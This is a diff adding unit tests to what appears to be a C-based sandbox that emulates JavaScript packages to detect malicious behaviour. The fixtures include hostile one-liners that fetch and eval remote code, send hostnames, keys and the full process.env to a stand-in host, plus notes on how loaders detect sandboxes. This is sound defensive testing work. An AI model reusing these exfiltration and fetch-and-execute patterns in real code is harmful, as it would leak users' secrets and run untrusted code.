@@ -207,6 +207,31 @@ static const Case flows[] = {
     { "settings from its own file", "a.js",
       "const c = require('./config.json'); require('child_process').exec('echo ' + c.word)",
       "proc.exec|echo fine|exec", "config.json", "{\"word\":\"fine\"}" },
+    { "a handler that takes its this for the global object", "a.js",
+      "require('http').get('http://example.invalid/u', r => { let b = ''; r.on('data', d => { b += "
+      "d }); r.on('end', function () { const F = this['F' + 'unction']; new F(this.Buffer.from(b) "
+      "+ "
+      "'')() }) })",
+      "code.eval|<net>|Function <- net.request", NULL, NULL },
+    { "through a library nobody has", "a.js",
+      "const odd = require('odd-encoding'); fetch('https://example.invalid/?' + "
+      "odd.encode(require('os').hostname())); ",
+      "net.request|https://example.invalid/?<host>|GET <- host.info", NULL, NULL },
+    { "and back", "a.js",
+      "fetch('https://example.invalid/s').then(r => r.text()).then(t => "
+      "eval(require('odd-encoding').decode(t)))",
+      "code.eval|<net>|eval <- net.request", NULL, NULL },
+    { "a key whose name was shortened", "a.js",
+      "exports.fromSecretKey = _0x1f => { fetch('https://example.invalid/?' + _0x1f) }",
+      "parameter|fromSecretKey\nnet.request|https://example.invalid/?<argument>|GET <- parameter",
+      NULL, NULL },
+    { "a longer parameter speaks for itself", "a.js",
+      "exports.fromSecretKey = (options) => { fetch('https://example.invalid/?' + options) }",
+      "!parameter", NULL, NULL },
+    { "the whole environment, key by key", "a.js",
+      "const o = {}; for (const k of Object.keys(process.env)) o[k] = process.env[k]; "
+      "fetch('https://example.invalid/', { method: 'POST', body: JSON.stringify(o) })",
+      "env.read|*\nnet.request|https://example.invalid/|POST", NULL, NULL },
 };
 
 static void test_flows(void **state)
@@ -416,16 +441,117 @@ static void test_hostile_scripts(void **state)
 static void test_same_bytes_same_trace(void **state)
 {
     (void)state;
-    const char *script =
+    static const char *const scripts[] = {
         "const c = require('crypto'); fetch('https://example.invalid/' + Math.random() + "
         "Date.now() + c.randomBytes(8).toString('hex') + process.pid + process.hrtime()[1] + new "
         "Error().stack.length).then(r => r.text()).then(t => eval(t)); for (const k in "
-        "process.env) require('fs').writeFileSync('/tmp/' + k, process.env[k])";
-    FAKE_SINK first = package("a.js", script, NULL, NULL);
-    FAKE_SINK second = package("a.js", script, NULL, NULL);
-    RtStr a = run(first), b = run(second);
-    assert_true(a.len > 100);
-    assert_true(rt_str_equal(a, b));
+        "process.env) require('fs').writeFileSync('/tmp/' + k, process.env[k])",
+        "const x = require('child_process').exec, o = require('os'); x('echo ' + "
+        "[performance.now(), "
+        "process.memoryUsage().rss, o.freemem(), o.uptime(), new Date().toLocaleString(), "
+        "crypto.randomUUID(), Symbol('s').toString(), new Error('e').stack])",
+        "const seen = []; Promise.race([1, 2, 3].map(n => new Promise(y => setTimeout(y, 30 / n, "
+        "n)))).then(n => seen.push(n)); setImmediate(() => seen.push('i')); process.nextTick(() => "
+        "seen.push('t')); setTimeout(() => require('child_process').exec('echo ' + seen), 90)",
+        "const all = new Map(), list = []; for (let i = 0; i < 300; i++) all.set({ i }, i); for "
+        "(const [k] of all) list.push(k.i * 7919 % 101); list.sort(() => Math.random() - 0.5); "
+        "fetch('https://example.invalid/?' + list.join())",
+    };
+    for (size_t i = 0; i < RT_COUNT(scripts); i++) {
+        FAKE_SINK first = package("a.js", scripts[i], NULL, NULL);
+        RtStr a = run(first);
+        FAKE_SINK between = package("a.js", hostile[i], NULL, NULL);
+        run(between); /* what a run before leaves behind may not show */
+        FAKE_SINK second = package("a.js", scripts[i], NULL, NULL);
+        assert_true(a.len > 20);
+        assert_true(rt_str_equal(a, run(second)));
+    }
+}
+
+/* A budget that is spent is a gap only where the run was the one look there is. */
+static void test_cut_short(void **state)
+{
+    (void)state;
+    for (int second = 0; second < 2; second++) {
+        FAKE_SINK fake = package("a.js", "require('fs'); for (;;) {}", NULL, NULL);
+        RtEmulationEntry entries[] = {
+            { .kind = RT_RUN_IMPORT, .layer = 2, .is_second_look = second == 1 },
+            { .kind = RT_RUN_IMPORT, .layer = 2, .is_second_look = second == 1 },
+        };
+        rt_emulate(emulator,
+                   &(RtEmulation){ .entries = entries, .count = RT_COUNT(entries), .cpu_ms = 60 },
+                   &fake->sink);
+        assert_int_equal(fake_sink_was_unseen(fake, RT_STR("limit-emulation-ms")), second == 0);
+    }
+}
+
+/* Loaders compare these texts, and look at stacks, to tell a sandbox from Node. */
+static const struct {
+    const char *script, *words;
+} errors[] = {
+    { "undefined.x", "TypeError: Cannot read properties of undefined (reading 'x')" },
+    { "null.x", "TypeError: Cannot read properties of null (reading 'x')" },
+    { "let a; a[3]", "TypeError: Cannot read properties of undefined (reading '3')" },
+    { "undefined.x = 1", "TypeError: Cannot set properties of undefined (setting 'x')" },
+    { "null.x = 1", "TypeError: Cannot set properties of null (setting 'x')" },
+    { "const c = 1; c = 2", "TypeError: Assignment to constant variable." },
+    { "b; let b", "ReferenceError: Cannot access 'b' before initialization" },
+    { "nowhere", "ReferenceError: nowhere is not defined" },
+    { "class A {} A()", "TypeError: Class constructor  cannot be invoked without 'new'" },
+    { "const o = () => 1; new o()", "TypeError: (intermediate value) is not a constructor" },
+    { "JSON.parse('{')",
+      "SyntaxError: Expected property name or '}' in JSON at position 1 (line 1 column 2)" },
+    { "JSON.parse('')", "SyntaxError: Unexpected end of JSON input" },
+    { "JSON.parse('oops')", "SyntaxError: Unexpected token 'o', \"oops\" is not valid JSON" },
+    { "eval('(')", "SyntaxError: Unexpected end of input" },
+    { "eval(')')", "SyntaxError: Unexpected token ')'" },
+    { "eval('return')", "SyntaxError: Illegal return statement" },
+    { "(function f() { f() })()", "RangeError: Maximum call stack size exceeded" },
+    { "new Array(-1)", "RangeError: Invalid array length" },
+    { "decodeURIComponent('%')", "URIError: URI malformed" },
+    { "1n + 1", "TypeError: Cannot mix BigInt and other types, use explicit conversions" },
+    { "Symbol() + ''", "TypeError: Cannot convert a Symbol value to a string" },
+    { "const j = {}; j.j = j; JSON.stringify(j)",
+      "TypeError: Converting circular structure to JSON" },
+};
+
+static void test_error_texts(void **state)
+{
+    (void)state;
+    int missing = 0;
+    for (size_t i = 0; i < RT_COUNT(errors); i++) {
+        RT_ARENA arena = rt_arena_open(1 << 20, NULL, NULL);
+        RtStr script = rt_str_format(
+            arena,
+            "try { %s } catch (e) { require('child_process').exec('echo ' + e + '|' + "
+            "e.message.length) }",
+            errors[i].script);
+        RtStr wanted = rt_str_format(arena, "proc.exec|echo %s", errors[i].words);
+        FAKE_SINK fake = package("a.js", rt_str_c(arena, script), NULL, NULL);
+        missing += miss_facts(errors[i].script, run(fake), rt_str_c(arena, wanted));
+    }
+    assert_int_equal(missing, 0);
+}
+
+static void test_error_stacks(void **state)
+{
+    (void)state;
+    static const char script[] =
+        "function named() { return new Error('x') }\n"
+        "const lines = named().stack.split('\\n'), inner = [1].map(() => new "
+        "TypeError('y').stack);\n"
+        "const at = l => l.replace(/:\\d+:\\d+/, ':L:C');\n"
+        "const caught = (() => { try { null.z } catch (e) { return e.stack.split('\\n')[0] } "
+        "})();\n"
+        "require('child_process').exec('echo ' + [lines[0], at(lines[1]), at(lines[2]), "
+        "lines[lines.length - 1] !== '', inner[0].split('\\n')[2], caught].join('; '))";
+    FAKE_SINK fake = package("a.js", script, NULL, NULL);
+    assert_int_equal(
+        miss_facts("stack", run(fake),
+                   "proc.exec|echo Error: x;     at named (/home/dev/project/a.js:L:C);     at "
+                   "/home/dev/project/a.js:L:C; true;     at Array.map (<anonymous>); TypeError: "
+                   "Cannot read properties of null (reading 'z')"),
+        0);
 }
 
 static void test_marks(void **state)
@@ -505,6 +631,9 @@ int main(void)
         cmocka_unit_test(test_places),
         cmocka_unit_test(test_hostile_scripts),
         cmocka_unit_test(test_same_bytes_same_trace),
+        cmocka_unit_test(test_cut_short),
+        cmocka_unit_test(test_error_texts),
+        cmocka_unit_test(test_error_stacks),
         cmocka_unit_test(test_marks),
         cmocka_unit_test(test_inflate),
     };
